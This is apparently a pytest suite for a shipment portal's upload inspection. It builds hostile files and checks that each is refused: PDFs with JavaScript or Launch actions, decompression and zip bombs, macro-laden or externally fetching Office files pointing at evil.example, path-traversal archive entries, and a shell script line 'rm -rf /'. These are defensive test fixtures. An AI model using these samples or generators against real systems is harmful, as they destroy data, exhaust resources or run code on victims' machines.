"""Uploaded files: each hostile one is made here, has a name, and is refused with its reason."""

import hashlib
import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from datetime import datetime

import pikepdf
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image
from sqlalchemy.orm import Session

from portal.config import Settings
from portal.shipments import documents, edit, find, inspection
from portal.shipments.documents import DocumentDamaged
from portal.shipments.models import Shipment
from portal.shipments.states import DocumentRefused
from tests.shipments.conftest import Firm

LIMIT = 10 * 1024 * 1024
WORD_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def pdf(change: Callable[[pikepdf.Pdf], None] = lambda made: None, **options: object) -> bytes:
    made = pikepdf.new()
    made.add_blank_page()
    change(made)
    kept = io.BytesIO()
    made.save(kept, **options)
    return kept.getvalue()


def action(**members: object) -> Callable[[pikepdf.Pdf], None]:
    def put(made: pikepdf.Pdf) -> None:
        made.Root.OpenAction = pikepdf.Dictionary(**members)

    return put


def embedded(made: pikepdf.Pdf) -> None:
    made.attachments["programme.exe"] = b"MZ"


def script_by_name(made: pikepdf.Pdf) -> None:
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
    made.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=pikepdf.Array(["a", script])))


def page_action(made: pikepdf.Pdf) -> None:
    made.pages[0].obj.AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.Launch, F="calc.exe"))


def annotation(subtype: str) -> Callable[[pikepdf.Pdf], None]:
    def put(made: pikepdf.Pdf) -> None:
        note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name(subtype), Rect=[0, 0, 9, 9])
        made.pages[0].obj.Annots = pikepdf.Array([note])

    return put


def xfa(made: pikepdf.Pdf) -> None:
    made.Root.AcroForm = pikepdf.Dictionary(XFA=pikepdf.String("<xdp/>"), Fields=pikepdf.Array())


def no_page(made: pikepdf.Pdf) -> None:
    del made.pages[0]


def object_stream(padding: int) -> bytes:
    """A PDF whose objects lie in a stream with ``padding`` spaces, which pack to almost nothing."""
    objects = [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
               b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"]  # fmt: skip
    starts = [sum(map(len, objects[:at])) for at in range(3)]
    head = b" ".join(b"%d %d" % (at + 1, start) for at, start in enumerate(starts)) + b" "
    packed = zlib.compress(head + b"".join(objects) + b" " * padding, 9)
    body = b"%PDF-1.7\n"
    first = len(body)
    body += b"4 0 obj\n<</Type/ObjStm/N 3/First %d/Filter/FlateDecode/Length %d>>stream\n" % (len(head), len(packed))
    body += packed + b"\nendstream\nendobj\n"
    rows = [(0, 0, 65535), (2, 4, 0), (2, 4, 1), (2, 4, 2), (1, first, 0), (1, len(body), 0)]
    table = zlib.compress(b"".join(struct.pack(">BIH", *row) for row in rows))
    start = len(body)
    body += b"5 0 obj\n<</Type/XRef/Size 6/W[1 4 2]/Root 1 0 R/Filter/FlateDecode/Length %d>>stream\n" % len(table)
    return body + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF" % start


def picture(form: str, size: tuple[int, int] = (40, 30), mode: str = "RGB") -> bytes:
    kept = io.BytesIO()
    Image.new(mode, size).save(kept, form)
    return kept.getvalue()


def huge_png() -> bytes:
    """A header that promises 60,000 by 60,000 pixels, with next to no data behind it."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0" * 99)) + chunk(b"IEND", b"")


def office(main: str = "word/document.xml", parts: dict[str, bytes] | None = None, kind: str = WORD_TYPE) -> bytes:
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", f'<Types><Override PartName="/{main}" ContentType="{kind}"/></Types>')
        archive.writestr(main, "<document/>")
        for name, data in (parts or {}).items():
            archive.writestr(name, data)
    return kept.getvalue()


def encrypted_entry() -> bytes:
    data = bytearray(office())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        data[data.find(mark) + offset] |= 1
    return bytes(data)


def broken_entry() -> bytes:
    data = bytearray(office(parts={"word/media.xml": b"<a>" + bytes(range(65, 91)) * 9}))
    data[data.rfind(b"PK\x03\x04") + 60] ^= 0xFF
    return bytes(data)


def relation(kind: str) -> dict[str, bytes]:
    start = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    text = f'<Relationship Id="r1" Type="{start}/{kind}" Target="https://evil.example/x" TargetMode="External"/>'
    return {"word/_rels/document.xml.rels": text.encode()}


HOSTILE = [
    ("nothing", b"", "a.pdf", "empty"),
    ("too large", b"x" * (LIMIT + 1), "a.txt", "larger than 10 MB"),
    ("a program", b"MZ" + b"\0" * 200, "a.exe", "This file is: Windows"),
    ("a program called PDF", b"MZ" + b"\0" * 200, "a.pdf", "This file is: Windows"),
    ("a picture called PDF", picture("PNG"), "a.pdf", "name does not end in .png"),
    ("a PDF called a picture", pdf(), "a.png", "name does not end in .pdf"),
    ("no ending", pdf(), "contract", "name does not end in .pdf"),
    ("a web page", b"<html><script>alert(1)</script>", "a.txt", "Only PDF"),
    ("a vector picture", b'<svg xmlns="http://www.w3.org/2000/svg" onload="x"/>', "a.txt", "Only PDF"),
    ("a script", b"#!/bin/sh\nrm -rf /\n", "a.txt", "Only PDF"),
    ("text with a zero byte", b"a\0b", "a.txt", "Only PDF"),
    ("text in another encoding", "合同".encode("gb18030"), "a.txt", "Only PDF"),
    ("PDF with a script", pdf(action(S=pikepdf.Name.JavaScript, JS="app.alert(1)")), "a.pdf", "script"),
    ("PDF with a script by name", pdf(script_by_name), "a.pdf", "script"),
    ("PDF that starts a program", pdf(page_action), "a.pdf", "start a program"),
    ("PDF that opens another", pdf(action(S=pikepdf.Name.GoToR, F="x.pdf")), "a.pdf", "start a program"),
    ("PDF that sends data", pdf(action(S=pikepdf.Name.SubmitForm, F="https://x")), "a.pdf", "send or fetch"),
    ("PDF with a file inside", pdf(embedded), "a.pdf", "another file inside"),
    ("PDF with a file on a page", pdf(annotation("/FileAttachment")), "a.pdf", "another file inside"),
    ("PDF with a film", pdf(annotation("/RichMedia")), "a.pdf", "films"),
    ("PDF with XFA", pdf(xfa), "a.pdf", "XFA"),
    ("PDF with a password", pdf(encryption=pikepdf.Encryption(owner="o", user="u")), "a.pdf", "password"),
    ("PDF that is encrypted", pdf(encryption=pikepdf.Encryption(owner="o", user="")), "a.pdf", "encrypted"),
    ("PDF without a page", pdf(no_page), "a.pdf", "no page"),
    ("PDF cut off", pdf()[:180], "a.pdf", "broken"),
    ("PDF that is none", b"%PDF-1.7\nhello", "a.pdf", "broken"),
    ("PDF that is a bomb", object_stream(200 * 1024 * 1024), "a.pdf", "broken"),
    ("picture cut off", picture("PNG")[:60], "a.png", "broken"),
    ("photograph cut off", picture("JPEG", (400, 400))[:500], "a.jpg", "broken"),
    ("picture that is a bomb", huge_png(), "a.png", "pixels"),
    ("picture of many pixels", picture("PNG", (20_001, 2), "1"), "a.png", "pixels"),
    ("picture with an archive behind", picture("PNG") + office(), "a.png", "behind the picture"),
    ("an archive", office(main="readme.txt"), "a.zip", "Archives are not taken"),
    ("an archive that is broken", b"PK\x03\x04" + b"\0" * 50, "a.docx", "broken archive"),
    ("old Office", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 99, "a.doc", "old or password-protected"),
    ("Office with a macro", office(parts={"word/vbaProject.bin": b"x"}), "a.docx", "macro"),
    (
        "Office that says macro",
        office(kind="application/vnd.ms-word.document.macroEnabled.main+xml"),
        "a.docx",
        "macro",
    ),
    ("Office with a file inside", office(parts={"word/embeddings/x.bin": b"x"}), "a.docx", "another file inside"),
    ("Office that fetches", office(parts=relation("attachedTemplate")), "a.docx", "fetch"),
    ("Office with an entity", office(parts={"word/x.xml": b"<!DOCTYPE a [<!ENTITY b 'c'>]>"}), "a.docx", "entity"),
    ("Office that climbs", office(parts={"../../etc/x": b"x"}), "a.docx", "outside itself"),
    ("Office that is a bomb", office(parts={"word/a.xml": b"0" * 60_000_000}), "a.docx", "unreasonable size"),
    ("Office of many parts", office(parts={f"word/{n}.xml": b"" for n in range(5_000)}), "a.docx", "unreasonable size"),
    ("Office with a password", encrypted_entry(), "a.docx", "password"),
    ("Office that is broken", broken_entry(), "a.docx", "broken"),
]


@pytest.mark.parametrize(("data", "name", "reason"), [row[1:] for row in HOSTILE], ids=[row[0] for row in HOSTILE])
def test_a_hostile_file_is_refused_with_its_reason(data: bytes, name: str, reason: str) -> None:
    with pytest.raises(DocumentRefused) as refused:
        inspection.inspect(data, name, limit=LIMIT)
    assert reason in refused.value.reason.en
    assert refused.value.reason.zh


@pytest.mark.parametrize(
    ("data", "name", "media_type"),
    [
        (pdf(), "合同.PDF", "application/pdf"),
        (pdf(object_stream_mode=pikepdf.ObjectStreamMode.generate), "a.pdf", "application/pdf"),
        (object_stream(1000), "a.pdf", "application/pdf"),
        (picture("PNG"), "a.png", "image/png"),
        (picture("JPEG"), "a.JPG", "image/jpeg"),
        ("合同 contract\r\n".encode(), "a.txt", "text/plain"),
        (b"\xef\xbb\xbfa,b\n", "a.csv", "text/plain"),
        (office(), "a.docx", inspection.DOCX.media_type),
        (office(main="xl/workbook.xml"), "a.xlsx", inspection.XLSX.media_type),
        (office(parts=relation("hyperlink")), "a.docx", inspection.DOCX.media_type),
    ],
)
def test_an_honest_file_is_taken(data: bytes, name: str, media_type: str) -> None:
    assert inspection.inspect(data, name, limit=LIMIT).media_type == media_type


@given(
    st.binary(max_size=300), st.sampled_from([b"", b"%PDF-1.7\n", b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff", b"PK\x03\x04"])
)
@settings(deadline=None, max_examples=150)
def test_any_bytes_are_taken_or_refused(data: bytes, head: bytes) -> None:
    for ending in ("pdf", "png", "jpg", "docx", "txt"):
        try:
            kind = inspection.inspect(head + data, f"a.{ending}", limit=LIMIT)
        except DocumentRefused:
            continue
        assert ending in kind.endings


@pytest.mark.parametrize(
    ("name", "kept"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\docs\\contract.PDF", "contract.pdf"),
        ("invoice\u202efdp.exe.pdf", "invoicefdp.exe.pdf"),
        ("a\x00b\n.pdf", "ab.pdf"),
        ("...pdf", "document.pdf"),
        ("合同<1>.pdf", "合同1.pdf"),
        ("x" * 300 + ".pdf", "x" * 116 + ".pdf"),
    ],
)
def test_names_are_made_safe(name: str, kept: str) -> None:
    assert inspection.safe_name(name, inspection.PDF) == kept


def test_a_document_is_kept_by_its_digest_and_expires(
    session: Session, firm: Firm, now: datetime, settings: Settings
) -> None:
    shipment = edit.create(session, organisation_id=firm.organisation.id, reference="D", by=firm.preparer, now=now)
    data = pdf()
    digest = hashlib.sha256(data).hexdigest()
    kept = documents.keep(
        session, shipment, data=data, filename="c.pdf", kind="contract", by=firm.preparer, now=now, settings=settings
    )
    stored = settings.instance / "documents" / digest[:2] / digest
    assert stored.read_bytes() == data
    assert stored.stat().st_mode & 0o077 == 0
    assert [path.name for path in stored.parent.iterdir()] == [digest]
    assert documents.read(kept, settings) == data
    with pytest.raises(DocumentRefused):
        documents.keep(
            session,
            shipment,
            data=data,
            filename="d.pdf",
            kind="contract",
            by=firm.preparer,
            now=now,
            settings=settings,
        )
    documents.remove(session, kept, by=firm.preparer, now=now)
    assert shipment.documents == []
    assert kept.removed_at == now
    assert documents.read(kept, settings) == data, "what is taken out expires, it is not erased"
    assert [event.verb for event in find.history(session, shipment)][-2:] == [
        "shipment.document_added",
        "shipment.document_removed",
    ]


def test_a_document_that_was_altered_on_disk_is_not_given_out(
    session: Session, firm: Firm, now: datetime, settings: Settings
) -> None:
    shipment = edit.create(session, organisation_id=firm.organisation.id, reference="D", by=firm.preparer, now=now)
    kept = documents.keep(
        session, shipment, data=pdf(), filename="c.pdf", kind="other", by=firm.preparer, now=now, settings=settings
    )
    (settings.instance / "documents" / kept.stored).write_bytes(b"%PDF-forged")
    with pytest.raises(DocumentDamaged):
        documents.read(kept, settings)


def test_a_refused_document_leaves_nothing(session: Session, firm: Firm, now: datetime, settings: Settings) -> None:
    shipment = edit.create(session, organisation_id=firm.organisation.id, reference="D", by=firm.preparer, now=now)
    with pytest.raises(DocumentRefused):
        documents.keep(
            session, shipment, data=b"MZ", filename="c.pdf", kind="other", by=firm.preparer, now=now, settings=settings
        )
    assert not (settings.instance / "documents").exists()
    assert shipment.all_documents == []


def test_a_document_cannot_hang_on_another_shipments_party(
    session: Session, ready: Shipment, firm: Firm, now: datetime, settings: Settings
) -> None:
    other = edit.create(session, organisation_id=firm.organisation.id, reference="D", by=firm.preparer, now=now)
    with pytest.raises(DocumentRefused):
        documents.keep(
            session, other, data=pdf(), filename="c.pdf", kind="other", by=firm.preparer, now=now, settings=settings,
            party=ready.parties[0],
        )  # fmt: skip
